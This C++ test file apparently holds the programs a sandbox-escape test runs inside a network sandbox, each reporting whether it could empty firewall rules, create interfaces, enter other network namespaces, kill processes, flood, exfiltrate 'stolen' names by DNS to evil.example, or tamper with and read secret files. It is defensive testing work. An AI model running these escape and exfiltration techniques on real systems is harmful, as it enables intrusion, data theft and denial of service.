// The programs that escape_test.cpp runs in the sandbox. They say what they could do; who judges is outside.
#include <doctest/doctest.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <net/if.h>
#include <netdb.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "gateway/base/endpoint.hpp"
#include "gateway/tls/openssl_handles.hpp"
#include "netfilter/apply.hpp"
#include "netfilter/ruleset.hpp"
#include "tests/support/outside_recorder.hpp"
#include "tests/support/packet_attacks.hpp"

using namespace sallyport;
using namespace sallyport::test;

namespace {

void report_success(const std::string& what, bool success) {
    if (success) std::printf("BAD: %s\n", what.c_str());
}

std::vector<std::string> words(const char* variable) {
    const char* text = std::getenv(variable);
    std::istringstream in(text ? text : "");
    return {std::istream_iterator<std::string>(in), {}};
}

UniqueFd unix_socket(const std::string& name, bool listening) {
    UniqueFd fd(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
    sockaddr_un address{};
    address.sun_family = AF_UNIX;
    name.copy(address.sun_path, sizeof address.sun_path - 1);
    if (name[0] == '@') address.sun_path[0] = '\0';
    const auto size = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + name.size() + (name[0] == '@' ? 0 : 1));
    const auto* plain = reinterpret_cast<const sockaddr*>(&address);
    const bool done = listening ? ::bind(fd.get(), plain, size) == 0 && ::listen(fd.get(), 8) == 0
                                : ::connect(fd.get(), plain, size) == 0;
    if (!done) fd.reset();
    return fd;
}

/// A connection to HOST:PORT, by the sandbox's own name service; empty when there is none.
UniqueFd connect_to(const std::string& host, const std::string& port) {
    addrinfo hints{}, *found = nullptr;
    hints.ai_socktype = SOCK_STREAM;
    if (::getaddrinfo(host.c_str(), port.c_str(), &hints, &found) != 0) return {};
    const std::unique_ptr<addrinfo, decltype(&freeaddrinfo)> owner(found, freeaddrinfo);
    UniqueFd fd(::socket(found->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0));
    const timeval limit{30, 0};   // behind thousands of others, with sanitizers
    ::setsockopt(fd.get(), SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
    if (::connect(fd.get(), found->ai_addr, found->ai_addrlen) != 0) fd.reset();
    return fd;
}

std::string request(const std::string& host) {
    return "GET / HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n";
}

/// "HTTP/1.1 502", or "" when the answer is none.
std::string get(const std::string& address, const std::string& port, const std::string& host) {
    const auto fd = connect_to(address, port);
    const auto text = request(port == "80" ? host : host + ":" + port);
    if (!fd || ::send(fd.get(), text.data(), text.size(), MSG_NOSIGNAL) < 0) return {};
    char answer[13] = {};
    (void)!::recv(fd.get(), answer, 12, MSG_WAITALL);
    return answer;
}

std::string get_tls(const std::string& address, const std::string& host) {
    const auto fd = connect_to(address, "443");
    const tls::SslCtxPtr context(SSL_CTX_new(TLS_client_method()));
    const tls::SslPtr ssl(SSL_new(context.get()));
    SSL_set_fd(ssl.get(), fd.get());
    SSL_set_tlsext_host_name(ssl.get(), host.c_str());
    if (!fd || SSL_connect(ssl.get()) != 1) return {};
    const auto text = request(host);
    SSL_write(ssl.get(), text.data(), static_cast<int>(text.size()));
    char answer[13] = {};
    SSL_read(ssl.get(), answer, 12);
    return answer;
}

/// Ports of this namespace's sockets with the given state, as /proc/net/{tcp,udp} writes it.
std::set<std::uint16_t> local_ports(const char* file, const std::string& state) {
    std::set<std::uint16_t> ports;
    std::ifstream in(file);
    std::string line, index, local, remote, status;
    std::getline(in, line);
    while (std::getline(in, line)) {
        std::istringstream(line) >> index >> local >> remote >> status;
        if (status == state)
            ports.insert(static_cast<std::uint16_t>(std::stoul(local.substr(local.find(':') + 1), nullptr, 16)));
    }
    return ports;
}

/// As every program may that wants a port together with others.
bool squat(int type, std::uint16_t port, const char* address) {
    const auto at = IpAddress::parse(address).value();
    const UniqueFd fd(::socket(at.is_v4() ? AF_INET : AF_INET6, type | SOCK_CLOEXEC, 0));
    const int on = 1;
    ::setsockopt(fd.get(), SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    ::setsockopt(fd.get(), SOL_SOCKET, SO_REUSEPORT, &on, sizeof on);
    sockaddr_storage storage{};
    const auto size = Endpoint{at, port}.to_sockaddr(storage);
    return ::bind(fd.get(), reinterpret_cast<sockaddr*>(&storage), size) == 0 &&
           (type == SOCK_DGRAM || ::listen(fd.get(), 1) == 0);
}

bool empty_the_rules() {
    try {
        netfilter::apply({{netfilter::Family::inet, "sallyport", {}}});
        return true;
    } catch (const std::exception&) {
        return false;
    }
}

bool change_loopback() {
    const UniqueFd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
    ifreq change{};
    std::strcpy(change.ifr_name, "lo");
    return ::ioctl(fd.get(), SIOCSIFFLAGS, &change) == 0;
}

/// What would make another way out: an interface, from nothing, from a device or from a namespace of one's own.
bool make_link() {
    const UniqueFd tun(::open("/dev/net/tun", O_RDWR | O_CLOEXEC));
    ifreq request{};
    std::strcpy(request.ifr_name, "escape0");
    request.ifr_flags = IFF_TUN;
    if (tun && ::ioctl(tun.get(), TUNSETIFF, &request) == 0) return true;
    const pid_t child = ::fork();
    if (child == 0) {
        const auto uid = std::to_string(::geteuid());
        const auto parent = std::to_string(::getppid());
        if (::unshare(CLONE_NEWUSER | CLONE_NEWNET) == 0) std::ofstream("/proc/self/uid_map") << "0 " + uid + " 1";
        const auto command = "ip link add escape1 type veth peer escape2 netns " + parent + " 2>/dev/null";
        ::_exit(::system(command.c_str()) == 0 ? 0 : 1);
    }
    int status = -1;
    ::waitpid(child, &status, 0);
    const bool add = ::system(
                         "ip link add escape3 type dummy 2>/dev/null || ip route add 192.0.2.7 dev lo 2>/dev/null ||"
                         " ip address add 192.0.2.7 dev lo 2>/dev/null") == 0;
    return status == 0 || add;
}

/// Everything that would open the seal, with the power that the caller has.
void open_the_seal(const std::string& who) {
    report_success(who + " emptied the rules", empty_the_rules());
    report_success(who + " changed lo", change_loopback());
    report_success(who + " made an interface, a route or an address", make_link());
    for (const auto& process : std::filesystem::directory_iterator("/proc")) {
        const UniqueFd space(::open((process.path() / "ns/net").c_str(), O_RDONLY | O_CLOEXEC));
        if (space) report_success(who + " entered a network namespace", ::setns(space.get(), CLONE_NEWNET) == 0);
    }
    send_udp(target4(51, 9), marker(51));
}

/// In a child, as root of a user namespace of its own.
void from_nested_namespace(const std::function<void()>& body) {
    const auto uid = std::to_string(::geteuid());
    const pid_t child = ::fork();
    if (child == 0) {
        if (::unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) ::_exit(0);
        std::ofstream("/proc/self/uid_map") << "0 " + uid + " 1";
        std::printf("nested\n");
        body();
        std::fflush(nullptr);
        ::_exit(0);
    }
    ::waitpid(child, nullptr, 0);
}

volatile sig_atomic_t asked_to_end = 0;

}  // namespace

TEST_CASE("attack: seal" * doctest::skip()) {
    open_the_seal("the command");
    std::fflush(nullptr);
    from_nested_namespace([] { open_the_seal("a nested namespace"); });
    for (const auto port : local_ports("/proc/net/tcp", "0A"))
        for (const auto* address : {"127.0.0.1", "0.0.0.0"})
            report_success("took a listener's port", squat(SOCK_STREAM, port, address));
    for (const auto port : local_ports("/proc/net/tcp6", "0A"))
        for (const auto* address : {"::1", "::"})
            report_success("took a listener's port of IPv6", squat(SOCK_STREAM, port, address));
    for (const auto port : local_ports("/proc/net/udp", "07"))
        for (const auto* address : {"127.0.0.1", "0.0.0.0"})
            report_success("took the name server's port", squat(SOCK_DGRAM, port, address));
    for (const auto port : local_ports("/proc/net/udp6", "07"))
        for (const auto* address : {"::1", "::"})
            report_success("took the name server's port of IPv6", squat(SOCK_DGRAM, port, address));
    std::printf("listeners %zu\n", local_ports("/proc/net/tcp", "0A").size());
}

TEST_CASE("attack: signals" * doctest::skip()) {
    ::getaddrinfo("signalled.evil.example", "80", nullptr, nullptr);
    for (int number = 1; number < 65; ++number) {
        const bool stops = number >= SIGCONT && number <= SIGTTOU;
        struct sigaction ignore {};
        ignore.sa_handler = SIG_IGN;
        ::sigaction(number, &ignore, nullptr);
        if (!stops) ::kill(0, number);
    }
    ::kill(-1, SIGTERM);
    ::kill(1, SIGKILL);
    std::printf("alive\n");
    std::fflush(nullptr);
    ::_exit(0);  // the gateway sends us what it was sent, which the test runner no longer ignores at its end
}

/// A program outside, with sockets in the file system and in its network namespace.
TEST_CASE("attack: listener" * doctest::skip()) {
    std::vector<pollfd> sockets;
    for (const auto& name : words("SOCKETS")) sockets.push_back({unix_socket(name, true).release(), POLLIN, 0});
    ::signal(SIGTERM, [](int) { asked_to_end = 1; });
    std::printf("listening\n");
    std::fflush(nullptr);
    while (!asked_to_end) ::pause();
    ::poll(sockets.data(), sockets.size(), 0);
    for (std::size_t i = 0; i < sockets.size(); ++i)
        if (sockets[i].revents) std::printf("visited %s\n", words("SOCKETS")[i].c_str());
}

TEST_CASE("attack: services" * doctest::skip()) {
    const auto port = std::to_string(Outside::kServicePort);
    for (const auto* address : {"127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "::", Outside::kAddress}) {
        connect_to(address, port);
        const UniqueFd udp(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
        sockaddr_storage storage{};
        const auto to = IpAddress::parse(address);
        if (!to || to->is_v6()) continue;
        const auto size = Endpoint{*to, Outside::kServicePort}.to_sockaddr(storage);
        ::sendto(udp.get(), "escape", 6, 0, reinterpret_cast<sockaddr*>(&storage), size);
    }
    for (const auto& name : words("SOCKETS")) unix_socket(name, false);
}

TEST_CASE("attack: names" * doctest::skip()) {
    std::set<std::uint16_t> types = {32768, 32769, 65280, 65535};
    for (std::uint16_t type = 0; type < 262; ++type) types.insert(type);
    for (const auto type : types)
        for (const auto* suffix : {".evil.example", ".good.example", ".arpa", ""})
            send_udp(target4(52, 53), dns_question("stolen-" + std::to_string(type) + suffix, type, false));
    for (int opcode = 1; opcode < 16; ++opcode) {
        auto question = dns_question("stolen.evil.example", 1, false);
        question[2] = static_cast<char>(opcode << 3);
        send_udp(target4(53, 53), question);
    }
    for (const int type : {1, 16, 252, 255, 65535}) {
        const auto to = target4(54, 53);
        const UniqueFd fd(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0));
        ::connect(fd.get(), reinterpret_cast<const sockaddr*>(&to), sizeof to);
        const auto question = dns_question("stolen.evil.example", static_cast<std::uint16_t>(type), true);
        (void)!::send(fd.get(), question.data(), question.size(), MSG_NOSIGNAL);
        pollfd answer{fd.get(), POLLIN, 0};
        ::poll(&answer, 1, std::getenv("WAIT") ? 5000 : 0);
    }
    if (std::getenv("WAIT")) std::printf("%s\n", connect_to("good.example", "80") ? "resolved" : "not resolved");
}

TEST_CASE("attack: rebinding" * doctest::skip()) {
    for (const auto& host : words("HOSTS"))
        for (const auto* port : {"80", "7777"})
            std::printf("%s:%s %s\n", host.c_str(), port, get(host, port, host).c_str());
}

TEST_CASE("attack: another address" * doctest::skip()) {
    std::printf("plain %s\n", get("198.51.100.55", "80", "good.example").c_str());
    std::printf("tls %s\n", get_tls("198.51.100.56", "good.example").c_str());
}

TEST_CASE("attack: flood" * doctest::skip()) {
    for (unsigned round = 0;; ++round) {
        send_udp(target4(60, 9), marker(60));
        start_tcp(target4(61, 443));
        send_udp(target4(62, 53), dns_question("stolen.evil.example", 16, false));
        if (round % 50 != 0) continue;
        std::printf("round\n");
        std::fflush(nullptr);
    }
}

TEST_CASE("attack: exhaustion" * doctest::skip()) {
    for (int i = 0; i < 10'000; ++i) {
        start_tcp(target4(63, static_cast<std::uint16_t>(1 + i)));
        send_udp(target4(64, 53), dns_question("n" + std::to_string(i) + ".evil.example", 1, false));
    }
    std::vector<UniqueFd> held;  // as many as we may have, silent, all at once
    for (UniqueFd fd = connect_to("198.51.100.65", "443"); fd && held.size() < 900; held.push_back(std::move(fd)))
        if (held.size() > 1) fd = connect_to("198.51.100.65", "443");
    held.clear();
    std::printf("%s\n", get("good.example", "80", "good.example").c_str());
}

namespace {

void forge(const std::string& who, const std::string& file) {
    std::error_code failed;
    report_success(who + " wrote to " + file, !!(std::ofstream(file, std::ios::app) << "forged\n" << std::flush));
    report_success(who + " emptied " + file, ::truncate(file.c_str(), 0) == 0);
    report_success(who + " made writable " + file, ::chmod(file.c_str(), 0777) == 0);
    report_success(who + " removed " + file, ::unlink(file.c_str()) == 0);
    report_success(who + " moved " + file, ::rename(file.c_str(), (file + ".old").c_str()) == 0);
    report_success(who + " moved a file over " + file, !!std::ofstream("new") && ::rename("new", file.c_str()) == 0);
    const auto directory = std::filesystem::absolute(file).parent_path();
    std::filesystem::rename(directory, directory.string() + "-moved", failed);
    report_success(who + " moved the directory of " + file, !failed);
}

}  // namespace

TEST_CASE("attack: forgery" * doctest::skip()) {
    for (const auto& file : words("FILES")) forge("the command", file);
    std::fflush(nullptr);
    from_nested_namespace([] {
        for (const auto& file : words("FILES")) forge("a nested namespace", file);
    });
    for (const auto& file : words("FILES")) {
        std::stringstream text;
        text << std::ifstream(file).rdbuf();
        report_success("read the secret in " + file, text.str().find("the-real-secret") != std::string::npos);
    }
    send_udp(target4(66, 53), dns_question("seen.evil.example", 1, false));
    ::getaddrinfo("seen.evil.example", "80", nullptr, nullptr);
}
